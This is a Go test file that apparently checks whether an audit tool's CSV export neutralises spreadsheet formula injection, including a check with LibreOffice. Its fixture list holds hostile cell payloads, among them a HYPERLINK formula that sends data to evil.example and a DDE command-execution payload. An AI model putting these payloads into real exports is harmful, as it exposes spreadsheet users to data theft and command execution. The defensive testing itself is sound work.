package faults

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/xml"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/auditctl/auditctl/pkg/audit"
	"github.com/auditctl/auditctl/pkg/report"
)

// What sites may call themselves so that a spreadsheet computes it, breaks its rows at it, or takes it for something else, and what a reader of CSV finds in its
// place.
var spiteNames = []struct{ name, cell string }{
	{`=1+1`, `'=1+1`},
	{`+1+1`, `'+1+1`},
	{`-1+1`, `'-1+1`},
	{`@SUM(A1)`, `'@SUM(A1)`},
	{`=HYPERLINK("http://evil.example/?"&A1,"bread")`, `'=HYPERLINK("http://evil.example/?"&A1,"bread")`},
	{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
	{"\t=1+1", "'\t'=1+1"},
	{"\r=1+1", "'=1+1"},
	{"\n=1+1", "'\n'=1+1"},
	{"  =1+1", "'  =1+1"},
	{"\u00a0\ufeff\u200b=1+1", "'\u00a0\ufeff\u200b=1+1"},
	{"\x00\u202e=1+1", "'=1+1"},
	{"＝1+1", "'＝1+1"},
	{`";=1+1;"`, `";'=1+1;"`},
	{`Dupont;=cmd|' /C calc'!A0;`, `Dupont;'=cmd|' /C calc'!A0;`},
	{"Dupont\t=1+1\t", "Dupont\t'=1+1\t"},
	{"bread\r\n=1+1,\"=1+1\"", "bread\n'=1+1,\"=1+1\""},
	{`'=1+1`, `'=1+1`},
	{"\xff\xfe=1+1", "\ufffd\ufffd=1+1"},
}

// A table whose names are hostile or in any script is read back as it was written, by a reader of CSV and by a spreadsheet program, which finds nothing
// to compute in it.
func TestATableIsReadBackWithoutAFormula(t *testing.T) {
	aside(t)
	begin(t)
	r := rand.New(rand.NewPCG(5, 6)) // the same each time
	var list []string
	for _, spite := range spiteNames {
		list = append(list, spite.name)
	}
	for range *names {
		list = append(list, anyName(r))
	}
	table := tableOf(t, list)
	rows, err := csv.NewReader(bytes.NewReader(table)).ReadAll()
	if err != nil || len(rows) != len(list)+1 {
		t.Fatalf("%d rows, %v", len(rows), err)
	}
	for i, name := range list {
		if got := rows[i+1][slices.Index(rows[0], "audit_id")]; got != fmt.Sprintf("aud_%d", i) {
			t.Errorf("the row of %q is that of audit %q", name, got)
		}
	}
	for i, spite := range spiteNames {
		for _, column := range []string{"domain", "industry", "type", "summary"} {
			if got := rows[i+1][slices.Index(rows[0], column)]; got != spite.cell {
				t.Errorf("%q is read back as %q in column %s, want %q", spite.name, got, column, spite.cell)
			}
		}
	}
	tried := fmt.Sprintf("%d hostile and %d random names, in 4 columns each", len(spiteNames), *names)
	seen := "encoding/csv gives every row back"
	office, err := exec.LookPath("soffice")
	if err != nil {
		record(t, tried, seen+"; no spreadsheet program is installed here")
		t.Skip("no spreadsheet program: soffice (LibreOffice Calc) isn't installed")
	}
	sheet := spreadsheet{t: t, program: office, dir: t.TempDir()}
	alone := sheet.formulas(bare(t, list), comma)
	if alone == 0 {
		t.Fatal("the spreadsheet program computes none of these names where they stand as they are: nothing can be told")
	}
	for name, separators := range map[string]string{"the comma": comma, "the semicolon": semicolon, "the tab": tab, "any of them": comma + "/" + semicolon + "/" + tab} {
		if n := sheet.formulas(table, separators); n != 0 {
			t.Errorf("the spreadsheet program computes %d cells, where %s separates them", n, name)
		}
	}
	again, err := csv.NewReader(bytes.NewReader(sheet.saved(table, len(rows[0])))).ReadAll()
	if err != nil || len(again) != len(rows) {
		t.Fatalf("saved by the spreadsheet program: %d rows, %v", len(again), err)
	}
	for i := range rows {
		for j, want := range rows[i] {
			if got := again[i][j]; got != want {
				t.Errorf("the spreadsheet program has %q for %q", got, want)
			}
		}
	}
	record(t, tried, seen+fmt.Sprintf("; %s, told to compute what it can, computes none (%d of the bare names), and saves every cell as it was", sheet.version(), alone))
}

// tableOf is the table of a batch with one audit for each name, done, and called so wherever a site has a say.
func tableOf(t *testing.T, list []string) []byte {
	t.Helper()
	var out bytes.Buffer
	err := report.WriteCSV(&out, func(yield func(*audit.Audit, error) bool) {
		for i, name := range list {
			a := audit.Audit{AuditID: fmt.Sprintf("aud_%d", i), URL: "https://shop.example/", Domain: name, Status: audit.Done}
			a.Report = &audit.Report{Business: audit.Business{Industry: name, Type: name}, Summary: name}
			if !yield(&a, nil) {
				return
			}
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// bare is a table of the names as they are.
func bare(t *testing.T, list []string) []byte {
	t.Helper()
	var out bytes.Buffer
	w := csv.NewWriter(&out)
	for _, name := range list {
		if err := w.Write([]string{name}); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	return out.Bytes()
}

// anyName is a name of characters of all of Unicode, every other time behind something that a formula may begin with.
func anyName(r *rand.Rand) string {
	leads := []string{"", "", "", "=", "+", "-", "@", "＝", "＠", "\t", "\r", "\n", " =", "\u3000+", "\u200b@", "'", "\"", ",", ";"}
	special := []rune("\"',;=\t\r\n \u00a0\u200b\u202e\ufeff\x00\x1b")
	var b strings.Builder
	b.WriteString(leads[r.IntN(len(leads))])
	for range 1 + r.IntN(30) {
		switch r.IntN(8) {
		case 0:
			b.WriteRune(special[r.IntN(len(special))])
		case 1:
			b.WriteByte(byte(r.UintN(256))) // mostly no UTF-8
		case 2:
			b.WriteRune(rune(r.IntN(unicode.MaxRune + 1)))
		case 3, 4:
			b.WriteRune(rune(r.IntN(0x3000)))
		default:
			b.WriteRune(rune('!' + r.IntN('~'-'!'+1)))
		}
	}
	return b.String()
}

// spreadsheet is LibreOffice, without a window and with a profile of its own.
type spreadsheet struct {
	t       *testing.T
	program string
	dir     string
}

// What separates cells, as character codes.
const (
	comma     = "44"
	semicolon = "59"
	tab       = "9"
)

// Its words for a table with commas (eagerly, any separators) and quotes in UTF-8, read from the first line; what follows is: the kind of each column (2 is text), English, whether quoted
// cells are text, whether dates and the like are recognised, four settings of no meaning here, every sheet, and whether formulas are computed.
const (
	readEager = "CSV:%s,34,76,1,,1033,false,true,false,false,false,0,true"
	readText  = "CSV:44,34,76,1,%s,1033,true,false,false,false,false,0,false"
	saveText  = "csv:Text - txt - csv (StarCalc):44,34,76,1,,1033,true,false,false,false,false,0"
)

// formulas opens a table as eagerly as the program can, and counts the cells that it computes.
func (s spreadsheet) formulas(table []byte, separators string) int {
	s.t.Helper()
	d := xml.NewDecoder(bytes.NewReader(s.convert(table, fmt.Sprintf(readEager, separators), "fods", "fods")))
	cells, found := 0, 0
	for {
		token, err := d.Token()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			s.t.Fatal(err)
		}
		e, ok := token.(xml.StartElement)
		if !ok || e.Name.Local != "table-cell" {
			continue
		}
		cells++
		for _, a := range e.Attr {
			if a.Name.Local == "formula" {
				found++
			}
		}
	}
	if cells == 0 {
		s.t.Fatal("the spreadsheet program saw no cells")
	}
	return found
}

// saved opens a table as text and saves it.
func (s spreadsheet) saved(table []byte, columns int) []byte {
	s.t.Helper()
	var kinds []string
	for i := range columns {
		kinds = append(kinds, fmt.Sprintf("%d/2", i+1))
	}
	return s.convert(table, fmt.Sprintf(readText, strings.Join(kinds, "/")), saveText, "csv")
}

func (s spreadsheet) convert(table []byte, read, to, extension string) []byte {
	s.t.Helper()
	in := filepath.Join(s.dir, "table.csv")
	if err := os.WriteFile(in, table, 0o600); err != nil {
		s.t.Fatal(err)
	}
	ctx, cancel := context.WithTimeout(s.t.Context(), 5*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, s.program, "-env:UserInstallation=file://"+filepath.Join(s.dir, "profile"), "--headless",
		"--infilter="+read, "--convert-to", to, "--outdir", filepath.Join(s.dir, "out"), in)
	if out, err := cmd.CombinedOutput(); err != nil {
		s.t.Fatalf("%v: %s", err, out)
	}
	data, err := os.ReadFile(filepath.Join(s.dir, "out", "table."+extension))
	if err != nil {
		s.t.Fatal(err)
	}
	return data
}

// version is the program's name and version.
func (s spreadsheet) version() string {
	out, err := exec.Command(s.program, "--version").Output()
	words := strings.Fields(string(out))
	if err != nil || len(words) < 2 {
		return "LibreOffice"
	}
	return strings.Join(words[:2], " ")
}
